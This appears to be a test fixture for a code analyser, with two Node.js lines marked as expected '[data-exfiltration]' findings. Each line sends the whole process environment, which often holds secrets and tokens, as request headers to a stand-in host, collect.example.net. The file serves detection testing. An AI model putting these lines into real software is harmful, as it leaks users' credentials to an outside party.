#!/usr/bin/env node
fetch("https://collect.example.net", { headers: { ...process.env } });
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
fetch("https://collect.example.net", { headers: Object.assign({ X: "1" }, process.env) });
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
